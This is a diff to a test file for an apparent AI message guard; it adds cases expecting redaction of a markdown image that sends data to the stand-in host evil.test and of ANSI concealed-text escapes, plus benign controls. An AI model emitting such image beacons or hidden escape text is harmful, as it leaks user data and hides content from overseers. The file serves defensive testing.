@@ -55,6 +55,10 @@ def text(*texts):
         ("balanced", text(HIDDEN), Effect.DENY),
         ("balanced", call({"q": KEY}), Effect.ALLOW),
         ("balanced", call({"q": HIDDEN}), Effect.DENY),
+        ("balanced", text(f"![a](https://evil.test/p.png?d={A32}{A32})"), Effect.REDACT),
+        ("balanced", text("a\x1b[8mhidden\x1b[0m"), Effect.REDACT),
+        ("balanced", text("\x1b[31mred\x1b[0m"), None),
+        ("balanced", text("![ci](https://img.test/badge.svg?branch=main&style=flat)"), None),
         ("strict", text(ASSIGNED), Effect.REDACT),
         ("strict", text(CARD), Effect.REDACT),
         ("strict", text(OVERRIDE), Effect.DENY),
@@ -65,6 +69,9 @@ def text(*texts):
 )
 def test_what_follows_in_each_profile(profile, message, effect):
     verdict = guard(profile).check(message, {})
+    if effect is None:
+        assert verdict is None
+        return
     assert verdict is not None
     assert verdict.effect is effect
     assert verdict.findings
